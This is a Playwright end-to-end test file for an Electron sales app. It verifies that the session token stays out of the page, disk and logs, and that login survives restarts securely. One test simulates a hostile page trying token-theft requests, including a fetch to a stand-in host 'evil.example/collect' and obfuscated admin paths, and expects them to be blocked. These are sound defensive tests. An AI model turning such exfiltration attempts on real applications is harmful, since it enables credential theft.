import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { type Bridge, bridgeEvents } from '../../src/shared/bridge/bridge.ts'
import { specified } from '../../src/shared/messages.ts'
import { startVirtualPrinter, type VirtualPrinter } from '../../src/virtual-printer/virtual-printer.ts'
import { logInAs, openPath, walkGuardedWays } from '../support/e2e/guarded-ways.ts'
import { mouseHands } from '../support/e2e/hands.ts'
import { pathIs } from '../support/e2e/sale.ts'
import { recordToasts } from '../support/e2e/toasts.ts'
import { admin, wholeSale } from '../support/e2e/whole-sale.ts'
import { newDataDir, removeDataDir } from '../support/e2e/venue.ts'
import type { DesktopApp } from '../support/electron-33/desktop-app.ts'
import { expect, test } from '../support/electron-33/desktop-test.ts'
import { startSmtp, type TestSmtp } from '../support/fakes/smtp.ts'

const COLUMNS = 42

/** A request as it left for the server. */
interface Sent {
  url: string
  method: string
  origin: string
  authorization: string
}

let folder = ''
let printer: VirtualPrinter
let smtp: TestSmtp

test.describe.configure({ mode: 'serial' })
test.beforeAll(async () => {
  folder = newDataDir()
  printer = await startVirtualPrinter({ port: 0, columns: COLUMNS })
  smtp = await startSmtp()
})
test.afterAll(async () => {
  await smtp.stop()
  await printer.close()
  removeDataDir(folder)
})

/** Keeps every request of the screens; Purser itself listens to none at this point. */
const keepSent = ({ electron }: DesktopApp): Promise<void> =>
  electron.evaluate(({ session }) => {
    const sent: Sent[] = []
    Object.assign(globalThis, { sent })
    session.defaultSession.webRequest.onSendHeaders(({ url, method, frame, requestHeaders }) => {
      sent.push({ url, method, origin: frame?.origin ?? '', authorization: requestHeaders['Authorization'] ?? '' })
    })
  })
const sentBy = ({ electron }: DesktopApp): Promise<Sent[]> =>
  electron.evaluate(() => (globalThis as unknown as { sent: Sent[] }).sent)

/** The token, as it went out on the wire with the newest request of the screens. */
const tokenOnTheWire = async (app: DesktopApp): Promise<string> =>
  ((await sentBy(app)).findLast(({ authorization }) => authorization !== '')?.authorization ?? '').replace('Bearer ', '')

/** Keeps all that the bridge announces to a page from here on. */
const keepEvents = (page: Page): Promise<void> =>
  page.evaluate(
    (names) => {
      const { purser } = window as unknown as { purser: Bridge }
      const announced: unknown[] = []
      Object.assign(window, { announced })
      for (const name of names) purser.subscribe(name, (payload) => announced.push(payload))
    },
    Object.keys(bridgeEvents) as (keyof typeof bridgeEvents)[],
  )

/** All that a page has or was given: storage, its own objects, what the bridge answers and announced. */
async function withinReachOfThePage(page: Page): Promise<string> {
  const ofPage = await page.evaluate(async () => {
    const { purser } = window as unknown as { purser: Bridge }
    const own = Object.getOwnPropertyNames(window).map((name) => {
      try {
        return `${name}=${JSON.stringify((window as unknown as Record<string, unknown>)[name])}`
      } catch {
        return name
      }
    })
    const asked = ['appInfo', 'getSettings', 'printState', 'lineState'] as const
    const answers = await Promise.all(asked.map((name) => purser.call(name, {})))
    return [
      JSON.stringify(Object.entries(localStorage)),
      JSON.stringify(Object.entries(sessionStorage)),
      document.cookie,
      JSON.stringify(answers),
      ...own,
      ...performance.getEntries().map(({ name }) => name),
    ]
  })
  return [...ofPage, await page.content()].join('\n')
}

function onTheDisk(from: string): string {
  const files = readdirSync(from, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile())
  return files.map((entry) => readFileSync(join(entry.parentPath, entry.name), 'latin1')).join('\n')
}

const keptLogin = (): string => readFileSync(join(folder, 'workstation', 'login.json'), 'utf8')

/** Starts the app on the folder that these tests share, and readies its page. */
async function open(start: (options: object) => Promise<DesktopApp>, flags: readonly string[] = []) {
  const env = { PURSER_SMTP_URL: smtp.url, PURSER_MAIL_FROM: 'purser@ship.example' }
  const app = await start({ dataDir: folder, env, flags })
  const address = await app.ready()
  const page = await app.window()
  await recordToasts(page)
  await keepSent(app)
  await page.reload()
  return { app, address, page }
}

test('the whole sale in the desktop app, from an empty database to decoded paper; the token is nowhere', async ({ start }) => {
  test.slow()
  const { app, address, page } = await open(start)
  const bodies: string[] = []
  page.on(
    'response',
    (response) =>
      void response.text().then(
        (text) => bodies.push(text),
        () => undefined,
      ),
  )
  await keepEvents(page)
  await wholeSale(mouseHands(page), { page, address, printer, smtp, printsOn: 'payment' })

  const token = await tokenOnTheWire(app)
  expect(token).toMatch(/^[\w-]{43}$/)
  expect(bodies.length).toBeGreaterThan(20)
  const places = {
    'the page': await withinReachOfThePage(page),
    'answers to the page': bodies.join('\n'),
    'what the program says': app.said(),
    'the disk': onTheDisk(folder),
  }
  for (const [place, text] of Object.entries(places)) expect(text.includes(token), `the token in ${place}`).toBe(false)
  await page.evaluate((planted) => localStorage.setItem('planted', planted), token)
  expect((await withinReachOfThePage(page)).includes(token), 'negative control: a token there is found').toBe(true)
  await page.evaluate(() => localStorage.removeItem('planted'))
  expect(await app.quit()).toBe(0)
})

test('a page that works against its own program gets no token', async ({ start }) => {
  const { app, address, page } = await open(start)
  await signedIn(page)
  const tries = await page.evaluate(
    async ({ api, credentials }) => {
      const attempt = async (url: string, init: RequestInit): Promise<string> => {
        try {
          const answer = await fetch(url, init)
          return `${answer.status} ${await answer.text()}`
        } catch {
          return 'blocked'
        }
      }
      const headers = { 'content-type': 'application/json' }
      const post = { method: 'POST', headers, body: JSON.stringify(credentials) }
      return {
        login: await attempt(`${api}/admin/login`, post),
        spelled: await attempt(`${api}//Admin/log%69n/`, post),
        setup: await attempt(`${api}/setup`, post),
        opaque: await attempt(`${api}/admin/login`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(credentials) }),
        ownHeader: await attempt(`${api}/admin/session`, { headers: { Authorization: 'Bearer of-the-page' } }),
        elsewhere: await attempt('https://evil.example/collect', { headers: { Authorization: 'Bearer x' } }),
      }
    },
    { api: `${address}/api`, credentials: { email: admin.email, password: admin.password } },
  )
  expect(tries).toMatchObject({ login: 'blocked', spelled: 'blocked', setup: 'blocked', elsewhere: 'blocked' })
  expect(tries.opaque, 'an opaque answer has nothing to read').not.toContain('token')
  expect(tries.ownHeader, "the page's own header is replaced").toMatch(/^200 .*Anita Rao/)
  expect(tries.ownHeader).not.toContain('token')
  const sent = await sentBy(app)
  expect(JSON.stringify(sent)).not.toContain('of-the-page')
  for (const { url, method, origin } of sent.filter(({ authorization }) => authorization !== '')) {
    expect([new URL(url).origin, origin], url).toEqual([address, 'app://purser'])
    expect(method, 'a preflight carries none').not.toBe('OPTIONS')
  }
})

test('events reach a page until it unsubscribes, each listener once', async ({ start }) => {
  const { page } = await open(start)
  const seen = await page.evaluate(async () => {
    const { purser } = window as unknown as { purser: Bridge }
    const names: string[] = []
    const settings = await purser.call('getSettings', {})
    if (!settings.ok) throw new Error('no settings')
    const changeSeenBy = (name: string) =>
      new Promise<void>((resolve) => {
        const end = purser.subscribe('settingsChanged', (...given) => {
          names.push(`${name} ${given.length} ${given[0].terminalName}`)
          end()
          resolve()
        })
      })
    const ends = Array.from({ length: 20 }, (_, at) => purser.subscribe('settingsChanged', () => names.push(`many ${at}`)))
    ends.forEach((end) => end())
    for (const terminalName of ['Bar one', 'Bar two']) {
      const once = changeSeenBy(terminalName)
      await purser.call('saveSettings', { ...settings.value, terminalName })
      await once
    }
    return names
  })
  expect(seen, 'with the payload alone').toEqual(['Bar one 1 Bar one', 'Bar two 1 Bar two'])
})

/** Logged in: by what the key store kept, or by hand. */
async function signedIn(page: Page): Promise<void> {
  const frame = page.getByRole('button', { name: specified.logOut })
  await expect(page.getByText(specified.loginTitle).or(frame)).toBeVisible()
  if (!(await frame.isVisible())) await logInAs(page, admin)
  await expect(frame).toBeVisible()
}

test('the login outlives a restart, under the ciphertext of the key store; a log-out leaves nothing of it', async ({
  start,
  withoutKeys,
}) => {
  test.skip(withoutKeys !== null, withoutKeys ?? '')
  const first = await open(start)
  await signedIn(first.page)
  await expect.poll(() => Object.keys(JSON.parse(keptLogin()) as object).toSorted()).toEqual(['auth', 'token'])
  expect(keptLogin()).not.toContain(admin.email)
  expect(await first.app.quit()).toBe(0)

  const { app, address, page } = await open(start)
  await expect(page).toHaveURL(pathIs('/foodorder/frontdesk'))
  await expect(page.getByText('Connected', { exact: true })).toBeVisible()
  const token = await tokenOnTheWire(app)
  await page.getByRole('button', { name: specified.logOut }).click()
  await expect(page.getByText(specified.loginTitle)).toBeVisible()
  await expect.poll(keptLogin).not.toMatch(/auth|token/)
  const answer = await fetch(`${address}/api/admin/session`, { headers: { authorization: `Bearer ${token}` } })
  expect(answer.status, 'the server ended it too').toBe(401)

  await walkGuardedWays(page, admin)
  await openPath(page, '/')
})

test('a session that the server ends leads to the login, and is kept no longer', async ({ start }) => {
  const { app, address, page } = await open(start)
  await signedIn(page)
  await expect.poll(() => tokenOnTheWire(app)).not.toBe('')
  const authorization = `Bearer ${await tokenOnTheWire(app)}`
  expect((await fetch(`${address}/api/admin/logout`, { method: 'POST', headers: { authorization } })).status).toBe(200)
  await expect(page.getByText('Logged out for security')).toBeVisible()
  await expect.poll(keptLogin).not.toMatch(/auth|token/)
})

test('without a key store worth the name the login stays in memory', async ({ start }) => {
  test.skip(process.platform !== 'linux', 'basic_text exists on Linux only')
  const basic = ['--password-store=basic']
  const first = await open(start, basic)
  await signedIn(first.page)
  expect(keptLogin()).not.toMatch(/auth|token/)
  await first.page.reload()
  await expect(first.page).toHaveURL(pathIs('/foodorder/frontdesk'))
  expect(await first.app.quit()).toBe(0)
  const { page } = await open(start, basic)
  await expect(page.getByText(specified.loginTitle)).toBeVisible()
})
